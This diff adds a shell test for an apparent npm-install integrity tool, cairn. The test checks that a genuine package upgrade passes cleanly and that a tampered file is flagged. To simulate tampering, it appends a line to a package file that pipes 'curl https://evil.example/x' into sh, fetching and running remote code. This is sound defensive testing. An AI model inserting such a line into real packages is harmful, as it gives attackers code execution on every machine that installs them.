@@ -1,0 +1,40 @@
+#!/bin/sh
+# Real npm installs (../shared/data/npm): the legitimate upgrade shows
+# version changes without red flags; the same install with one file of a
+# package changed after install shows the file and names the package
+# "same-version-different-content" and "files-mismatch-appeared".
+set -eu
+fail() { echo "FAIL: $*" >&2; exit 1; }
+data="$CAIRN_SRC/../shared/data/npm"
+if [ ! -f "$data/server-filesystem-2025.8.21.tar.zst" ]; then
+	echo "skip: $data not present"
+	exit 0
+fi
+mkdir v1 v2 cache
+tar --zstd -xf "$data/server-filesystem-2025.8.21.tar.zst" -C v1
+tar --zstd -xf "$data/server-filesystem-2026.8.31.tar.zst" -C v2
+tar --zstd -xf "$data/npm-cache.tar.zst" -C cache
+npmcache=$(echo cache/*/_cacache)
+[ -d "$npmcache" ] || npmcache=$(find cache -type d -name _cacache | head -n 1)
+cairn-snap -q v1 -o good.cairn --npm-cache "$npmcache"
+cairn-snap -q v2 -o upgrade.cairn --npm-cache "$npmcache"
+
+set +e; cairn-diff good.cairn upgrade.cairn > up.out; rc=$?; set -e
+[ "$rc" = 1 ] || fail "upgrade: exit $rc"
+grep -q 'server-filesystem): version-changed 2025.8.21 -> 2026.8.31' up.out || fail "version change"
+! grep -q '^  !! ' up.out || fail "red flag on a legitimate upgrade: $(grep '!!' up.out)"
+
+cp -a v1 bad
+printf 'require("child_process").exec("curl https://evil.example/x | sh");\n' \
+	>> bad/node_modules/diff/lib/index.js
+cairn-snap -q bad -o bad.cairn --npm-cache "$npmcache"
+set +e; cairn-diff good.cairn bad.cairn > bad.out; rc=$?; set -e
+[ "$rc" = 1 ] || fail "tampered: exit $rc"
+grep -q '^0 added, 0 removed, 1 modified, 0 metadata, 0 unreadable; 2 package' bad.out ||
+	fail "summary: $(sed -n 3p bad.out)"
+grep -q '^  ~ node_modules/diff/lib/index.js  content' bad.out || fail "file"
+grep -q '^  !! package npm::node_modules/diff (diff): same-version-different-content 5.2.2' bad.out ||
+	fail "same-version red flag"
+grep -q '^  !! package npm::node_modules/diff (diff): files-mismatch-appeared' bad.out ||
+	fail "files-mismatch red flag"
+echo ok
